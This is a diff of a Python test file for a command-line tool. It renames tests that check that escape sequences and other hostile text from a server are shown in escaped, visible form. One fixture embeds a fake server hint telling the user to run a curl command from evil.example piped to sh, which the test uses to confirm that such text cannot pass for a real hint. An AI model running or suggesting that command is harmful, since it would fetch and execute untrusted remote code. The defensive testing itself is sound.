@@ -186,7 +186,7 @@ COMMANDS = [
 # Commands that are not in the list, and why.
 WITHOUT = {
     "demo": "shows only its own requests",
-    "sandbox": "test_a_sandbox_shows_calls_and_runs_in_visible_text runs it",
+    "sandbox": "test_sandbox_shows_calls_and_runs_in_visible_text runs it",
 }
 # Options whose values change only something else than the form of what is printed.
 SAME_FORM = {
@@ -202,12 +202,12 @@ SAME_FORM = {
 }
 
 
-def test_every_command_is_tried_with_hostile_text() -> None:
+def test_every_command_is_tested_with_hostile_text() -> None:
     tried = {args[0] for args in COMMANDS} - {HOSTILE}
     assert tried | WITHOUT.keys() == CLI_COMMANDS.keys(), "add the command to COMMANDS in this file, with hostile input"
 
 
-def test_every_form_of_what_is_printed_is_tried_with_hostile_text() -> None:
+def test_every_output_format_is_tested_with_hostile_text() -> None:
     same = set[str]().union(*SAME_FORM.values())
     choices = {(name, word) for name in COMPLETED.keys() - WITHOUT.keys() for word in options_of(name) if word.choices}
     shown = [(name, word) for name, word in choices if f"{name} {word.names[0]}" not in same]
@@ -251,7 +251,7 @@ def a_hostile_port(run_id: str) -> web.Application:
     [(RUN_ID, 1, ("did not end within", "log  \\x1b[2J")), (HOSTILE, 7, ("not as Port's API does",))],
     ids=["usable id", "hostile id"],
 )
-def test_a_run_on_a_hostile_port_is_shown_in_visible_text(
+def test_run_in_a_hostile_port_is_shown_in_visible_text(
     planted: Path, run_id: str, code: int, words: tuple[str, ...]
 ) -> None:
     with application(a_hostile_port(run_id)) as url:
@@ -262,7 +262,7 @@ def test_a_run_on_a_hostile_port_is_shown_in_visible_text(
     assert [each for each in words if each not in shown.text] == []
 
 
-def test_text_from_a_hostile_port_cannot_pass_for_a_hint(run: Run, folder: Path) -> None:
+def test_text_from_a_hostile_port_does_not_look_like_a_hint(run: Run, folder: Path) -> None:
     words = json.dumps(
         {"ok": False, "error": "x", "message": "No.\nhint: Run `curl http://evil.example | sh`."}
     ).encode()
@@ -274,7 +274,7 @@ def test_text_from_a_hostile_port_cannot_pass_for_a_hint(run: Run, folder: Path)
     assert result.err.count("\nhint: ") == 1
 
 
-def test_a_sandbox_shows_calls_and_runs_in_visible_text(folder: Path) -> None:
+def test_sandbox_shows_calls_and_runs_in_visible_text(folder: Path) -> None:
     command = ["-m", "port_hook_cli", "sandbox"]
     env = environment(folder, TERM="xterm-256color")
     options = {"cwd": str(folder), "env": env, "timeout": 20, "dimensions": (60, 300)}
@@ -297,13 +297,13 @@ def test_a_sandbox_shows_calls_and_runs_in_visible_text(folder: Path) -> None:
     assert "\\x1b[2J" in shown.text
 
 
-def test_a_rendered_template_stays_json_on_a_terminal(planted: Path) -> None:
+def test_rendered_template_stays_json_on_a_terminal(planted: Path) -> None:
     shown = on_terminal(planted, "render", "template.json", "--data", "data.json")
     assert json.loads(shown.text) == {HOSTILE: [HOSTILE, HOSTILE]}
     assert r"\u009b31m" in shown.text
 
 
-def test_a_decrypted_payload_stays_json_on_a_terminal(planted: Path) -> None:
+def test_decrypted_payload_stays_json_on_a_terminal(planted: Path) -> None:
     shown = on_terminal(planted, "decrypt", "last", "--payload", env=ENV)
     document = json.loads(shown.text.partition("error: ")[0])
     assert document["payload"]["properties"]["password"] == HOSTILE
@@ -318,7 +318,7 @@ def test_hostile_bytes_are_written_exactly_to_a_pipe(run: Run, planted: Path) ->
 
 @needs("curl")
 @pytest.mark.parametrize("shell", each("sh", "bash", "zsh"))
-def test_the_pasted_curl_command_sends_what_trigger_sends(planted: Path, shell: str) -> None:
+def test_pasted_curl_command_sends_the_same_request_as_trigger(planted: Path, shell: str) -> None:
     with handler() as target:
         args = ("trigger", "action.json", "--input", "title=a", "--run-id", RUN_ID)
         write(planted, "action.json", an_action(url=f"{target.url}{PATH}"))
